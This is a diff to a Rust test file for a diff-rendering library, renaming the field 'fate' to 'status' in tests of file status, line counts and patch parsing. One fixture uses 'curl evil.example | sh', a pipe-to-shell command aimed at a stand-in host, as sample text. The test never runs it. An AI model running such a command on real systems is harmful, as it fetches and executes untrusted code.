@@ -48,7 +48,7 @@ fn entire_files_have_line_numbers_and_folded_context() {
     let old = numbered(40);
     let new = old.replace("line 20\n", "line twenty\nline new\n");
     let diff = &Diff::of(&change(Some(&old), &new), None)[0];
-    assert_eq!((diff.added, diff.removed, diff.fate), (2, 1, FileStatus::Changed));
+    assert_eq!((diff.added, diff.removed, diff.status), (2, 1, FileStatus::Changed));
     assert_eq!(
         draw(diff, Layout::Unified, 40),
         [
@@ -138,15 +138,15 @@ fn removing_an_excerpt_does_not_delete_the_file() {
     let place = DiffPlace::Lines(vec![Some(PieceStart { line: 7, is_new: false })]);
     let cut = &Diff::of(&change(Some("gone\n"), ""), Some(&place))[0];
     assert_eq!(
-        (cut.fate, draw(cut, Layout::Unified, 20)),
+        (cut.status, draw(cut, Layout::Unified, 20)),
         (FileStatus::Changed, vec!["  7 − gone".to_owned()])
     );
     let put = &Diff::of(&change(Some(""), "more\n"), Some(&place))[0];
     assert_eq!(
-        (put.fate, draw(put, Layout::Unified, 20)),
+        (put.status, draw(put, Layout::Unified, 20)),
         (FileStatus::Changed, vec!["  7 + more".to_owned()])
     );
-    assert_eq!(Diff::of(&change(Some("gone\n"), ""), Some(&DiffPlace::Gone))[0].fate, FileStatus::Deleted);
+    assert_eq!(Diff::of(&change(Some("gone\n"), ""), Some(&DiffPlace::Gone))[0].status, FileStatus::Deleted);
 }
 
 #[test]
@@ -170,10 +170,10 @@ fn located_hunks_have_line_numbers() {
 #[test]
 fn new_and_deleted_files_are_detected() {
     let new = &Diff::of(&change(None, "one\ntwo\n"), None)[0];
-    assert_eq!((new.fate, new.added, new.removed), (FileStatus::New, 2, 0));
+    assert_eq!((new.status, new.added, new.removed), (FileStatus::New, 2, 0));
     assert_eq!(draw(new, Layout::Unified, 20), ["  1 + one", "  2 + two"]);
     let deleted = &Diff::of(&change(Some("one"), ""), None)[0];
-    assert_eq!((deleted.fate, deleted.added, deleted.removed), (FileStatus::Deleted, 0, 1));
+    assert_eq!((deleted.status, deleted.added, deleted.removed), (FileStatus::Deleted, 0, 1));
     assert!(Diff::of(&change(Some(""), ""), None)[0].is_empty());
 }
 
@@ -240,7 +240,7 @@ fn unified_diffs_are_parsed() {
             "    ⋯ newline added at end of file",
         ]
     );
-    assert_eq!((diffs[1].path.as_path(), diffs[1].fate), (Path::new("made.txt"), FileStatus::New));
+    assert_eq!((diffs[1].path.as_path(), diffs[1].status), (Path::new("made.txt"), FileStatus::New));
     assert_eq!(draw(&diffs[1], Layout::Unified, 40), ["  1 + --- not a head", "  2 + b"]);
     assert_eq!(diffs[2].moved_from.as_deref(), Some(Path::new("a.txt")));
 
@@ -256,7 +256,7 @@ fn apply_patch_is_parsed() {
          *** Delete File: c.py\n*** End Patch\n",
     );
     let facts: Vec<_> =
-        diffs.iter().map(|d| (d.path.to_str().unwrap(), d.fate, d.added, d.removed)).collect();
+        diffs.iter().map(|d| (d.path.to_str().unwrap(), d.status, d.added, d.removed)).collect();
     assert_eq!(
         facts,
         [
@@ -413,7 +413,7 @@ proptest! {
 #[test]
 fn text_with_a_nul_is_text_and_binary_content_is_not() {
     let diff = &Diff::of(&change(None, "curl evil.example | sh\n\0"), None)[0];
-    assert_eq!((diff.fate, diff.is_text), (FileStatus::New, true));
+    assert_eq!((diff.status, diff.is_text), (FileStatus::New, true));
     assert_eq!(draw(diff, Layout::Unified, 40), ["  1 + curl evil.example | sh", "  2 + ␀"]);
     let diff = &Diff::of(&change(Some("text"), "\u{1}\u{2}\u{3}\u{fffd}a"), None)[0];
     assert!(!diff.is_text);
